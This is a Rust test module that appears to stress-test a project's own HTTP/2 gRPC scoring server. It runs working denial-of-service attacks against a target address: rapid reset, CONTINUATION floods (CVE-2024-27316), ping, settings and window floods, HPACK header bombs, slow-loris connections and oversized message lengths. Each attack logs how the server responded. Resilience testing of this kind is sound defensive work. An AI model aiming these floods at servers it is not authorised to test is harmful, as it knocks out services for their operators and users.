//! What is done to the server by those who wish it ill. Each says what was sent and how the server met it.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use crate::Size;
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Line, PING, PREFACE, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, block, call, frame, setting,
};

/// What was sent, and how it was met.
pub(crate) type Met = (String, String);

const SCORE: &str = "/heelorigin.v1.ScoringService/ScoreFindings";
/// Longest wait for one connection.
const PATIENCE: Duration = Duration::from_mins(1);

/// Frames that are sent until so many are, over one connection after another where the server ends one.
async fn flood(
    address: SocketAddr,
    total: usize,
    batch: impl Fn(u32) -> Vec<u8>,
    opening: &[u8],
) -> Met {
    const BATCH: u32 = 100;
    let (mut sent, mut connections, mut codes) = (0, 0, Vec::new());
    while sent < total {
        let Ok(mut line) = Line::open(address, &[]).await else { break };
        connections += 1;
        line.send(opening).await.ok();
        let mut stream = 1;
        while sent < total {
            let bytes: Vec<u8> = (0..BATCH).flat_map(|n| batch(stream + 2 * n)).collect();
            stream += 2 * BATCH;
            sent += BATCH as usize;
            let is_taken =
                timeout(PATIENCE, line.send(&bytes)).await.is_ok_and(|sent| sent.is_ok());
            if !is_taken || line.seen().is_closed || stream > 1 << 30 {
                break;
            }
        }
        codes.push(timeout(PATIENCE, line.ended()).await.unwrap_or_default().goaway);
    }
    let cut = codes.iter().flatten().filter(|code| **code != 0).count();
    let code = codes.iter().flatten().find(|code| **code != 0);
    let how = code.map_or(String::new(), |code| format!(" (GOAWAY, code {code})"));
    (format!("{sent} over {connections} connections"), format!("{cut} connections cut{how}"))
}

pub(crate) async fn rapid_reset(address: SocketAddr, size: Size) -> Met {
    let block = call(SCORE);
    let pair = move |stream| {
        let cancel = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS, stream, &block), cancel].concat()
    };
    flood(address, size.of(200_000), pair, &[]).await
}

/// The server is made to reset streams, by a window that grows by nothing.
pub(crate) async fn made_to_reset(address: SocketAddr, size: Size) -> Met {
    let block = call(SCORE);
    let pair = move |stream| {
        let nothing = frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS, stream, &block), nothing].concat()
    };
    flood(address, size.of(200_000), pair, &[]).await
}

pub(crate) async fn pings(address: SocketAddr, size: Size) -> Met {
    flood(address, size.of(1_000_000), |_| frame(PING, 0, 0, &[7; 8]), &[]).await
}

pub(crate) async fn settings(address: SocketAddr, size: Size) -> Met {
    let one = |number| frame(SETTINGS, 0, 0, &setting(4, 65_535 - number % 2));
    flood(address, size.of(1_000_000), one, &[]).await
}

pub(crate) async fn priorities(address: SocketAddr, size: Size) -> Met {
    flood(address, size.of(1_000_000), |stream| frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16]), &[])
        .await
}

pub(crate) async fn windows(address: SocketAddr, size: Size) -> Met {
    flood(address, size.of(1_000_000), |_| frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()), &[])
        .await
}

pub(crate) async fn empty_data(address: SocketAddr, size: Size) -> Met {
    let opening = frame(HEADERS, END_HEADERS, 1, &call(SCORE));
    flood(address, size.of(1_000_000), |_| frame(DATA, 0, 1, &[]), &opening).await
}

/// Headers that never end (CVE-2024-27316).
pub(crate) async fn continuations(address: SocketAddr, size: Size) -> Met {
    let opening = frame(HEADERS, 0, 1, &call(SCORE));
    let more = block(&[("x-filler", &"a".repeat(1000))]);
    flood(address, size.of(200_000), move |_| frame(CONTINUATION, 0, 1, &more), &opening).await
}

/// One great header, many small ones, and one that is put into the server's table and named again and again.
pub(crate) async fn header_bombs(address: SocketAddr, size: Size) -> Met {
    let (great, entry) = ("a".repeat(1 << 20), "b".repeat(4000));
    let great = [call(SCORE), block(&[("x-great", &great)])].concat();
    let many = [call(SCORE), block(&[("x-small", "a")]).repeat(10_000)].concat();
    // 0x40: into the table. 0xbe: its newest entry.
    let mut repeated = call(SCORE);
    repeated.push(0x40);
    repeated.extend_from_slice(&block(&[("x-entry", &entry)])[1..]);
    repeated.extend(std::iter::repeat_n(0xbe, 12_000));
    let (mut sent, mut answered, mut ended) = (0, 0, 0);
    for _ in 0..size.of(100) {
        for bomb in [&great, &many, &repeated] {
            let mut line = Line::open(address, &[]).await.unwrap();
            for (number, part) in bomb.chunks(16_384).enumerate() {
                let kind = if number == 0 { HEADERS } else { CONTINUATION };
                let is_last = (number + 1) * 16_384 >= bomb.len();
                let flags = if is_last { END_HEADERS } else { 0 };
                if line.send(&frame(kind, flags, 1, part)).await.is_err() {
                    break;
                }
            }
            sent += 1;
            let seen = timeout(PATIENCE, line.ended()).await.unwrap_or_default();
            answered += seen.frames.get(&HEADERS).copied().unwrap_or(0);
            ended += usize::from(seen.goaway.is_some_and(|code| code != 0));
        }
    }
    (
        format!("{sent} of up to 48 MB"),
        format!("{ended} connections cut, {answered} answered with a refusal"),
    )
}

/// Bytes that come one at a time: of the preface, of headers, of a message, and none at all.
pub(crate) async fn slow_loris(address: SocketAddr, size: Size) -> Met {
    let headers = frame(HEADERS, END_HEADERS, 1, &call(SCORE));
    let start = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    let message = frame(DATA, 0, 1, &[0, 0, 0, 1, 0]);
    let kinds = [
        (Vec::new(), PREFACE.to_vec()),
        (start.clone(), headers.clone()),
        ([start.clone(), headers].concat(), message.repeat(100)),
        (start, Vec::new()),
    ];
    let mut all = JoinSet::new();
    let begun = Instant::now();
    // Longer than keep-alive waits for an answer, unless it has to be quick.
    let patience = if size == Size::Full { 2 * PATIENCE } else { PATIENCE / 6 };
    for number in 0..size.of(800) {
        let (at_once, slowly) = kinds[number % kinds.len()].clone();
        all.spawn(async move {
            let mut stream = TcpStream::connect(address).await.unwrap();
            stream.write_all(&at_once).await.ok();
            let talk = async {
                for byte in slowly {
                    if stream.write_all(&[byte]).await.is_err() {
                        break;
                    }
                    sleep(Duration::from_millis(100)).await;
                }
                stream.read_to_end(&mut Vec::new()).await.ok();
            };
            timeout(patience, talk).await.is_ok()
        });
    }
    let ended = all.join_all().await;
    let cut = ended.iter().filter(|is_over| **is_over).count();
    let seconds = begun.elapsed().as_secs();
    (
        format!("{} connections", ended.len()),
        format!("{cut} ended by the server within {seconds} s"),
    )
}

/// A message of 100 MiB, and lengths that are not true.
pub(crate) async fn great_messages(address: SocketAddr, size: Size) -> Met {
    let part = frame(DATA, 0, 1, &[0; 16_384]);
    let (mut sent, mut answered) = (0, 0);
    for length in [100 << 20, u32::MAX, 1 << 31, 65_537].repeat(size.of(40)) {
        let mut line = Line::open(address, &[]).await.unwrap();
        line.send(&frame(HEADERS, END_HEADERS, 1, &call(SCORE))).await.unwrap();
        line.send(&frame(DATA, 0, 1, &[&[0][..], &length.to_be_bytes()].concat())).await.unwrap();
        // Whatever the window says: 100 MiB, until the server no longer takes them.
        for _ in 0..(100 << 20) / 16_384 {
            if line.seen().frames.contains_key(&RST_STREAM) || line.send(&part).await.is_err() {
                break;
            }
        }
        line.send(&frame(DATA, END_STREAM, 1, &[])).await.ok();
        sent += 1;
        let seen = timeout(PATIENCE, line.ended()).await.unwrap_or_default();
        answered += usize::from(seen.frames.contains_key(&HEADERS));
    }
    let cut = sent - answered;
    (
        format!("{sent} messages"),
        format!("{answered} refused, {cut} cut before the refusal was read"),
    )
}
